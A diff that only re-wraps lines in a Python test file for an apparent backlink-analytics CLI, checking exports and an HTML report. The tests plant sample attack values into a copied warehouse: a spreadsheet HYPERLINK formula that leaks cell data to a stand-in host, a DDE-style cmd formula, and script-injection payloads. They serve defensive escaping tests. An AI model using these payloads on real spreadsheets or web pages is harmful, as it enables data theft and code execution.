@@ -20,7 +20,14 @@ from tests.conftest import SAMPLE_CONFIG, run_cli
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 PAYLOAD = '<img src=x onerror="window.__pwned=1">'
 SCRIPT_BREAK = "</script><!--<script>window.__pwned=2</script>"
-CHARTS = ("chart-referring-domains", "chart-velocity", "chart-anchors", "chart-authority", "chart-topics", "chart-disavow")
+CHARTS = (
+    "chart-referring-domains",
+    "chart-velocity",
+    "chart-anchors",
+    "chart-authority",
+    "chart-topics",
+    "chart-disavow",
+)
 
 
 def _cli(*args: str, warehouse):
@@ -41,13 +48,24 @@ def tampered(sample_refresh, tmp_path_factory):
     path = tmp_path_factory.mktemp("tampered") / "warehouse.duckdb"
     shutil.copy(sample_refresh.warehouse, path)
     with duckdb.connect(str(path)) as con:
-        con.execute("update marts.fct_backlinks set anchor = ?, page_title = ? where link_id = (select min(link_id) from marts.fct_backlinks)",
-                    [FORMULA, "+cmd|' /C calc'!A0"])
+        con.execute(
+            "update marts.fct_backlinks set anchor = ?, page_title = ? where link_id = (select min(link_id) from marts.fct_backlinks)",
+            [FORMULA, "+cmd|' /C calc'!A0"],
+        )
         site = con.sql("select site_domain from config.sites where role = 'site'").fetchall()[0][0]
-        con.execute("update marts.unlinked_mentions set title = ? where site_domain = ? and lead_rank = 1", [PAYLOAD, site])
-        con.execute("update marts.competitor_gaps set topic = ? where site_domain = ? and opportunity_rank = 1", [PAYLOAD, site])
-        con.execute("update marts.topical_coverage set topic = ? where site_domain = ? and topic = 'knives'", [SCRIPT_BREAK, site])
-        con.execute("update marts.disavow_candidates set reasons = ? || '; ' || reasons where site_domain = ?", [PAYLOAD, site])
+        con.execute(
+            "update marts.unlinked_mentions set title = ? where site_domain = ? and lead_rank = 1", [PAYLOAD, site]
+        )
+        con.execute(
+            "update marts.competitor_gaps set topic = ? where site_domain = ? and opportunity_rank = 1", [PAYLOAD, site]
+        )
+        con.execute(
+            "update marts.topical_coverage set topic = ? where site_domain = ? and topic = 'knives'",
+            [SCRIPT_BREAK, site],
+        )
+        con.execute(
+            "update marts.disavow_candidates set reasons = ? || '; ' || reasons where site_domain = ?", [PAYLOAD, site]
+        )
     return path
 
 
@@ -84,11 +102,15 @@ def test_parquet_keeps_every_column_and_type(sample_refresh, tmp_path):
                 "select column_name, data_type from duckdb_columns() where schema_name = 'marts' and table_name = ? order by column_index",
                 params=[mart],
             ).fetchall()
-            got = con.sql("select column_name, column_type from (describe select * from read_parquet(?))", params=[str(path)]).fetchall()
+            got = con.sql(
+                "select column_name, column_type from (describe select * from read_parquet(?))", params=[str(path)]
+            ).fetchall()
             assert got == want, mart
             # and the values themselves: no row differs either way
-            diff = con.sql(f'select count(*) from (select * from marts."{mart}" except all select * from read_parquet(?))',
-                           params=[str(path)]).fetchall()[0][0]
+            diff = con.sql(
+                f'select count(*) from (select * from marts."{mart}" except all select * from read_parquet(?))',
+                params=[str(path)],
+            ).fetchall()[0][0]
             assert diff == 0, mart
     types = {t for path in tmp_path.glob("*.parquet") for t in pl.read_parquet_schema(path).values()}
     assert {pl.Date, pl.Boolean, pl.Float64, pl.Int32}.issubset(types)
@@ -96,8 +118,16 @@ def test_parquet_keeps_every_column_and_type(sample_refresh, tmp_path):
 
 def test_formula_text_is_neutralised_in_csv_and_xlsx_and_kept_in_parquet(tampered, tmp_path):
     for fmt in ("csv", "xlsx", "parquet"):
-        proc = _cli("export", "--format", fmt, "--out", str(tmp_path / fmt), "fct_backlinks", "marts.link_velocity",
-                    warehouse=tampered)
+        proc = _cli(
+            "export",
+            "--format",
+            fmt,
+            "--out",
+            str(tmp_path / fmt),
+            "fct_backlinks",
+            "marts.link_velocity",
+            warehouse=tampered,
+        )
         assert proc.returncode == 0, proc.stderr
         assert sorted(p.name for p in (tmp_path / fmt).iterdir()) == [f"fct_backlinks.{fmt}", f"link_velocity.{fmt}"]
 
@@ -109,7 +139,9 @@ def test_formula_text_is_neutralised_in_csv_and_xlsx_and_kept_in_parquet(tampere
     for column in csv.columns:  # no text cell anywhere starts like a formula
         assert not csv[column].drop_nulls().str.contains(r"^[=+\-@\t\r]").any(), column
     velocity = pl.read_csv(tmp_path / "csv" / "link_velocity.csv")
-    assert velocity["net_referring_domains"].dtype == pl.Int64 and velocity["net_referring_domains"].min() < 0  # numbers untouched
+    assert (
+        velocity["net_referring_domains"].dtype == pl.Int64 and velocity["net_referring_domains"].min() < 0
+    )  # numbers untouched
 
     sheet = openpyxl.load_workbook(tmp_path / "xlsx" / "fct_backlinks.xlsx")["fct_backlinks"]
     header = [c.value for c in sheet[1]]
@@ -142,7 +174,11 @@ def test_export_and_report_without_a_warehouse_are_one_line_exit_2(tmp_path):
     for args in (("export", "--out", str(tmp_path / "x")), ("report", "--out", str(tmp_path / "r.html"))):
         proc = _cli(*args, warehouse=tmp_path / "none.duckdb")
         assert proc.returncode == 2, args
-        assert proc.stderr.strip().count("\n") == 0 and "no warehouse at" in proc.stderr and "backlinks refresh" in proc.stderr
+        assert (
+            proc.stderr.strip().count("\n") == 0
+            and "no warehouse at" in proc.stderr
+            and "backlinks refresh" in proc.stderr
+        )
     assert list(tmp_path.iterdir()) == []
 
 
@@ -151,7 +187,9 @@ def test_export_reads_the_warehouse_read_only(sample_refresh, tmp_path):
     would make it fail), and the warehouse file is unchanged."""
     before = sample_refresh.warehouse.stat().st_mtime_ns
     with duckdb.connect(str(sample_refresh.warehouse), read_only=True):
-        proc = _cli("export", "--format", "csv", "--out", str(tmp_path), "profile_diversity", warehouse=sample_refresh.warehouse)
+        proc = _cli(
+            "export", "--format", "csv", "--out", str(tmp_path), "profile_diversity", warehouse=sample_refresh.warehouse
+        )
     assert proc.returncode == 0, proc.stderr
     assert sample_refresh.warehouse.stat().st_mtime_ns == before
 
@@ -177,7 +215,9 @@ CHECKS = [
 
 
 def _open(report):
-    return open_page(report.as_uri(), f"document.querySelectorAll('.chart[data-rendered=true]').length === {len(CHARTS)}", CHECKS)
+    return open_page(
+        report.as_uri(), f"document.querySelectorAll('.chart[data-rendered=true]').length === {len(CHARTS)}", CHECKS
+    )
 
 
 def test_report_draws_every_chart_offline_in_a_real_browser(sample_refresh, tmp_path):
@@ -199,13 +239,23 @@ def test_report_draws_every_chart_offline_in_a_real_browser(sample_refresh, tmp_
             "select site_domain, max(snapshot_date) from marts.profile_diversity join config.sites using (site_domain)"
             " where role = 'site' group by 1"
         ).fetchall()[0]
-        competitors = [r[0] for r in con.sql("select site_domain from config.sites where role = 'competitor'").fetchall()]
+        competitors = [
+            r[0] for r in con.sql("select site_domain from config.sites where role = 'competitor'").fetchall()
+        ]
         top_gap = con.sql("select source_domain from marts.competitor_gaps where opportunity_rank = 1").fetchall()[0][0]
     assert f"Link profile report: {site}" in text and latest.strftime("%d %b %Y") in text
     assert all(c in text for c in competitors) and top_gap in text
-    for heading in ("What changed since the previous snapshot", "Referring domains over time", "Weekly new and lost",
-                    "Anchor text mix", "Authority distribution", "Topical coverage", "Top competitor gaps",
-                    "Top unlinked-mention leads", "Disavow summary"):
+    for heading in (
+        "What changed since the previous snapshot",
+        "Referring domains over time",
+        "Weekly new and lost",
+        "Anchor text mix",
+        "Authority distribution",
+        "Topical coverage",
+        "Top competitor gaps",
+        "Top unlinked-mention leads",
+        "Disavow summary",
+    ):
         assert heading in html
 
 
@@ -237,8 +287,11 @@ def test_report_of_a_first_snapshot_without_some_marts_says_so_instead_of_failin
     proc = _cli("report", "--out", str(report), warehouse=warehouse)
     assert proc.returncode == 0, proc.stderr
     drawn = [c for c in CHARTS if c not in ("chart-topics", "chart-disavow")]
-    page = open_page(report.as_uri(), f"document.querySelectorAll('.chart[data-rendered=true]').length === {len(drawn)}",
-                     [CHECKS[1], CHECKS[4]])
+    page = open_page(
+        report.as_uri(),
+        f"document.querySelectorAll('.chart[data-rendered=true]').length === {len(drawn)}",
+        [CHECKS[1], CHECKS[4]],
+    )
     assert sorted(page.values[CHECKS[1]]) == sorted(drawn)
     text = page.values[CHECKS[4]]
     assert "Only one snapshot so far" in text and "No disavow candidates." in text
